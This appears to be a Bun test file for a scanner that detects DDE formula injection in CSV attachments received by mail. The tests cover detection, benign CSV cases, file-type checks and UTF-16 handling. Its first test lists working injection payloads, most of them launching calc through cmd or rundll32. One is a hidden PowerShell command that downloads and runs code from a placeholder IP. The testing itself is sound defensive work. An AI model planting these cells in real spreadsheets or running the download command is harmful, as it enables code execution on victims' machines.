import { expect, test } from "bun:test";
import { csvDdeFormula, isCsv, MAX_CSV_BYTES } from "./csv";

/** A CSV file of this (ASCII) text. */
const ddeFormula = (text: string) => csvDdeFormula(new TextEncoder().encode(text));

test("DDE formulas as they are mailed in CSV files: a link after =, +, - or @, quoted or not, deep in a formula, and the DDE() function", () => {
  for (const cell of [
    "=cmd|' /C calc'!A0",
    "+cmd|'/C powershell -w hidden -c iex(iwr http://198.51.100.7/a)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe\'!\'\'"',
    "-2+3+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=cmd|calc!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  ]) {
    expect(ddeFormula(`Name,Amount,Note\nInvoice 0412,1200,${cell}\n`)).toBe(true);
    expect(ddeFormula(`${cell};x\n`)).toBe(true);
  }
});

test("ordinary CSV text is no DDE formula: pipes and exclamation marks in data, formulas without a link, negative numbers", () => {
  for (const csv of [
    "Name,Amount\nWidget|blue,12\nHello!,3\n",
    "Item,Total\nA,=SUM(B2:B9)\nB,-12.50\n",
    "Notes\nuse the a|b!c format,ok\n",
    "Product,Description\nShell,'cmd|x' is not a formula!\n",
    "-1,-2,-3\n".repeat(10000),
  ]) expect(ddeFormula(csv)).toBe(false);
});

test("a part is a CSV file by its type or its name", () => {
  expect(isCsv("text/csv", undefined)).toBe(true);
  expect(isCsv("application/vnd.ms-excel", "Invoice_0412.csv ")).toBe(true);
  expect(isCsv("application/vnd.ms-excel", "Invoice_0412.xls")).toBe(false);
  expect(isCsv("text/plain", "notes.txt")).toBe(false);
});

test("a CSV file's bytes: UTF-16 (either order) after its mark, else byte by byte; the first megabyte only", () => {
  const csv = "Name,Amount\r\nInvoice 0412,=cmd|' /C calc'!A0\r\n";
  expect(csvDdeFormula(new TextEncoder().encode(csv))).toBe(true);
  expect(csvDdeFormula(new Uint8Array([0xff, 0xfe, ...Buffer.from(csv, "utf16le")]))).toBe(true);
  expect(csvDdeFormula(new Uint8Array([0xfe, 0xff, ...Buffer.from(csv, "utf16le").swap16()]))).toBe(true);
  // UTF-16 without its mark is not read so (Excel does not either): its NULs split the formula.
  expect(csvDdeFormula(new Uint8Array(Buffer.from(csv, "utf16le")))).toBe(false);
  expect(csvDdeFormula(new TextEncoder().encode(`${"x".repeat(MAX_CSV_BYTES)}\n${csv}`))).toBe(false);
});
